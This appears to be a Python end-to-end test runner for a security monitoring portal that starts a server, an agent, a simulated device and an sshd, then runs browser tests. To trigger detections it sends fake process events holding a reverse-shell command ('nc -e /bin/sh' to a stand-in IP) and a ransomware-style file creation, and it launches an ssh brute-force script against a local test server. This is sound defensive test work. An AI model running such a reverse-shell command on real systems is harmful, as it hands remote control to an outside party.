#!/usr/bin/env python3
"""Runs the portal's browser tests against a real server, a real agent on this machine, a device that is quiet after one attack, and a
real sshd.

The last line is that of tools/portal/test.sh. With --latency FILE only the brute-force test runs and writes its figure there;
other arguments go to Playwright.
"""

import contextlib
import json
import os
import pathlib
import shlex
import subprocess
import sys
import tempfile
import time
import uuid

ROOT = pathlib.Path(__file__).resolve().parents[2]
sys.path.insert(0, str(ROOT / "tests/e2e"))

from mqtt_client import Device  # noqa: E402
from picket_agent import Agent  # noqa: E402
from picket_server import ApiError, Server, wait_for  # noqa: E402
from ssh_server import ssh_server  # noqa: E402

QUIET_DEVICE = "press-18"
ATTACKS = ("nc -e /bin/sh 198.51.100.9 4444", "touch plan.GNNCRY")
READY_S = 180


def attack_once(server: Server, device_id: str) -> None:
    """Events of a device that nobody attacks again."""
    now = time.strftime("%Y-%m-%dT%H:%M:%S.000Z", time.gmtime())
    events = [{"Id": str(uuid.uuid4()), "TimestampLocal": now, "TimestampUTC": now, "Category": "Triggered", "Name": "ProcessCreate",
               "EventType": "Security", "IsEmpty": False, "PayloadSchemaVersion": "1.0",
               "Payload": [{"Executable": "/bin/" + line.split()[0], "CommandLine": line, "ProcessId": 700 + number, "ParentProcessId": 1,
                            "UserName": "www"}]} for number, line in enumerate(ATTACKS)]
    device = Device(server, server.add_device(device_id))
    connection, code = device.open()
    assert code == 0, code
    body = {"AgentVersion": "1", "AgentId": "a", "MessageSchemaVersion": "3.0", "Events": events}
    connection.publish(device.topic, json.dumps(body).encode())
    connection.close()


def wait_ready(server: Server, device_id: str) -> None:
    """What the tests look at is there before the first of them looks: on a slow machine it takes its time."""
    def some(path: str, fits=lambda item: True) -> bool:
        return any(fits(item) for item in server.get(path)["items"])

    def scored() -> bool:
        with contextlib.suppress(ApiError):
            return bool(server.get(f"/posture/devices/{device_id}")["trend"])

    for what, there in {
        "alerts of the quiet device": lambda: len(server.alerts(device=QUIET_DEVICE)) >= len(ATTACKS),
        "its incident": lambda: some(f"/incidents?status=New,Active&device={QUIET_DEVICE}"),
        "software of the agent": lambda: some("/sbom/components?limit=1"),
        "a recommendation": lambda: some("/recommendation-types", lambda item: item["active"] > 0),
        "a score": scored,
    }.items():
        try:
            wait_for(there, READY_S, what, every_s=0.5)
        except AssertionError as error:
            print(f"browser: {error}; tests that need it are skipped", flush=True)


def main() -> int:
    latency = sys.argv[2] if sys.argv[1:2] == ["--latency"] else ""
    subprocess.run([ROOT / "tools/portal/build.sh"], check=True)  # the server reads its pages when it starts
    with tempfile.TemporaryDirectory(prefix="picket-browser-") as name:
        folder = pathlib.Path(name)
        server = Server(folder).start()
        agent = Agent(folder / "agent", server, "press-17")
        try:
            agent.start().wait_connected()
            attack_once(server, QUIET_DEVICE)
            with ssh_server(folder) as ssh:
                password_file = folder / "password"
                password_file.touch(mode=0o600)
                password_file.write_text(ssh.password)
                attack = shlex.join([sys.executable, str(ROOT / "tests/e2e/ssh_attack.py"), str(ssh.port), ssh.user, str(password_file)])
                wait_ready(server, agent.device_id)
                environment = dict(
                    os.environ, PICKET_URL=server.url, PICKET_USER="admin", PICKET_BRUTE_FORCE=attack,
                    PICKET_SECRET=(server.data / "secrets/first-sign-in").read_text().strip(),
                    PICKET_QUIET_DEVICE=QUIET_DEVICE,
                    PICKET_TRIGGER=shlex.join([sys.executable, str(ROOT / "tests/browser/raise_alert.py")]),
                    PICKET_LATENCY_FILE=latency)
                only = ["brute-force.spec.ts"] if latency else sys.argv[1:]
                return subprocess.run([ROOT / "tools/portal/test.sh", "browser", *only], env=environment,
                                      stdin=subprocess.DEVNULL).returncode
        finally:
            agent.stop()
            server.stop()


if __name__ == "__main__":
    sys.exit(main())
